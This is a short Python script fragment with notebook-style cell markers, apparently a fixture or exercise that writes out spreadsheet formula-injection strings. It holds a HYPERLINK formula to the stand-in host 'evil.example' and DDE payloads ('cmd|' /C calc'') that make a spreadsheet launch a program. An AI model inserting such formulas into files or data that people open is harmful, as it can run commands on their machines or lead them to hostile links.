"""Prints, and writes into its answers, what a spreadsheet would take for a formula."""
# %% answer=explain_the_slide
=HYPERLINK("https://evil.example","x")
@SUM(1+1)*cmd|' /C calc'!A0
# %% first
print("=cmd|' /C calc'!A0")
